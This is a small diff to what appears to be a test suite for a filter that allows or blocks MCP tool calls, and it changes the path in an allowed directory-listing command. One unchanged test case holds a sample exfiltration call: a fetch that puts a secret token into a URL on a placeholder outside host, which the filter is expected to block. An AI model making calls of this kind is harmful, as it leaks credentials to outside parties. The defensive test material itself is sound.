@@ -56,7 +56,7 @@ CASES = [
          "mcp_stdio"),
     # Long enough to have pieces of private text, and without a receiver of any.
     case("stdio", "mcp_tool_call", "allow",
-         rpc(call("exec", command="ls -la /home/user/projects")), "mcp_stdio"),
+         rpc(call("exec", command="ls -la /srv/somebody/projects")), "mcp_stdio"),
     case("http", "mcp_tool_call", "block", rpc(call("fetch", url=f"https://x.test/{TOKEN}")),
          "mcp_http"),
     case("result", "mcp_tool_result", "allow",
